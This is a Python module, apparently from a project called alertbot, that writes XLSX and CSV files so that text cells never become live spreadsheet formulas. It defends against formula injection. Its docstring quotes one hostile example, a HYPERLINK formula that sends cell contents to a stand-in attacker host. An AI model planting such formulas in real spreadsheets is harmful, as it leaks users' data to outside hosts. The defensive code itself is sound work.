"""The one safe spreadsheet writer: every text cell is text, never a formula, in XLSX and in CSV.

A squatter's applicant name ``=HYPERLINK("http://evil.example/?leak="&A2,"Open details")`` must reach a
spreadsheet as those characters, not as a live formula that leaks the sheet or opens a link.

XLSX (openpyxl)
    openpyxl turns any string starting with ``=`` into a formula cell (``data_type "f"``). :func:`xlsx_cell`
    sets ``data_type = "s"`` after assigning, so the value is written as an inline string (``t="inlineStr"``),
    which Excel and LibreOffice display as text and never evaluate, and sets the cell's ``quotePrefix`` so a
    user editing the cell keeps it text too. Control characters XLSX cannot hold (C0 except tab, LF, CR; openpyxl
    raises ``IllegalCharacterError`` on them) are shown as ``⟨U+000B⟩``; text beyond Excel's 32,767
    characters per cell is cut with "…". Strings read back with openpyxl are the strings written: a round
    trip is lossless for every value an import accepts.
CSV
    A field starting with ``=``, ``+``, ``-``, ``@``, tab or CR is a formula to Excel/LibreOffice. The rule,
    applied by :func:`csv_field` and undone by :func:`csv_value`: *a field starting with one of those
    characters or with an apostrophe gets one apostrophe in front*. Reading strips one leading apostrophe
    when the next character is one of ``= + - @ ' tab CR``. So ``=1+2`` ↔ ``'=1+2``, ``'abc`` ↔ ``''abc``,
    ``+86 24 1234`` ↔ ``'+86 24 1234``; a hand-written ``'abc`` (no formula character after the apostrophe)
    is read unchanged.

API (also for the reports): :func:`xlsx_cell`, :func:`append_row`, :func:`write_xlsx`, :func:`csv_field`,
:func:`csv_value`, :func:`write_csv`.
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import re
from collections.abc import Callable, Iterable, Sequence
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any

from alertbot.textsafety import mark

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell as XlsxCell
    from openpyxl.styles import Font

# openpyxl is imported where a workbook is made, not here: CSV users of this module (reading a watchlist for
# `alertbot match`) are spared its import (about a quarter of a second).

MAX_XLSX_CELL_CHARS = 32_767
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTE = (*FORMULA_START, "'")
# What openpyxl refuses in a cell (its ILLEGAL_CHARACTERS_RE): C0 controls except tab, LF and CR.
_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def xlsx_text(value: str) -> str:
    """``value`` as an XLSX cell can hold it: illegal control characters shown, cut to 32,767 characters."""
    text = _ILLEGAL_XLSX.sub(lambda m: mark(m.group(0)), value)
    if len(text) > MAX_XLSX_CELL_CHARS:
        text = text[: MAX_XLSX_CELL_CHARS - 1] + "…"
    return text


@functools.cache
def _cell_types() -> tuple[Callable[..., XlsxCell], type[Font]]:
    """openpyxl's cell and font classes, imported on the first cell (an import statement per cell cost a
    third of the time of making one)."""
    from openpyxl.cell.cell import WriteOnlyCell
    from openpyxl.styles import Font

    return WriteOnlyCell, Font


def xlsx_cell(sheet: Any, value: object, *, bold: bool = False) -> XlsxCell:
    """A cell for ``sheet.append`` (normal or write-only sheets): strings as text, never formulas.

    Numbers, booleans and dates keep their types; timezone-aware datetimes are written as naive UTC.
    """
    write_only_cell, font = _cell_types()
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        value = value.astimezone(dt.UTC).replace(tzinfo=None)
    if isinstance(value, str):
        text = xlsx_text(value)
        cell = write_only_cell(sheet, value=text)
        cell.data_type = "s"  # openpyxl made "=…" a formula ("f") and "#N/A" an error ("e")
        if text.startswith(_NEEDS_QUOTE) or text in _ERROR_LOOKALIKES:
            cell.quotePrefix = True
    else:
        cell = write_only_cell(sheet, value=value)
    if bold:
        cell.font = font(bold=True)
    return cell


_ERROR_LOOKALIKES = frozenset({"#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"})


def append_row(sheet: Any, values: Sequence[object], *, bold: bool = False) -> None:
    """Append one row of values to ``sheet`` through :func:`xlsx_cell`."""
    sheet.append([xlsx_cell(sheet, value, bold=bold) for value in values])


def write_xlsx(
    target: Path | str | IO[bytes],
    header: Sequence[str],
    rows: Iterable[Sequence[object]],
    *,
    title: str = "Sheet1",
) -> None:
    """A one-sheet workbook: a bold, frozen header row, then ``rows``; every text cell is text."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None  # a fresh Workbook always has one sheet
    sheet.title = title
    append_row(sheet, header, bold=True)
    for row in rows:
        append_row(sheet, row)
    for index, column_cells in enumerate(sheet.columns, start=1):
        width = max((len(str(c.value)) for c in column_cells if c.value is not None), default=0)
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 8), 60)
    sheet.freeze_panes = "A2"
    workbook.save(target)


def workbook_bytes(
    header: Sequence[str], rows: Iterable[Sequence[object]], *, title: str = "Sheet1"
) -> bytes:
    """:func:`write_xlsx` into memory."""
    buffer = io.BytesIO()
    write_xlsx(buffer, header, rows, title=title)
    return buffer.getvalue()


def csv_field(value: object) -> str:
    """One CSV field that no spreadsheet runs as a formula (see the module docstring for the rule)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(_NEEDS_QUOTE) else text


def csv_value(field: str) -> str:
    """Undo :func:`csv_field`: one leading apostrophe goes when a formula character or apostrophe follows."""
    if len(field) >= 2 and field[0] == "'" and field[1] in "=+-@'\t\r":
        return field[1:]
    return field


def write_csv(handle: IO[str], rows: Iterable[Sequence[object]]) -> None:
    """Write rows with :func:`csv_field` applied to every field (``handle`` opened with ``newline=""``)."""
    writer = csv.writer(handle)
    for row in rows:
        writer.writerow([csv_field(value) for value in row])
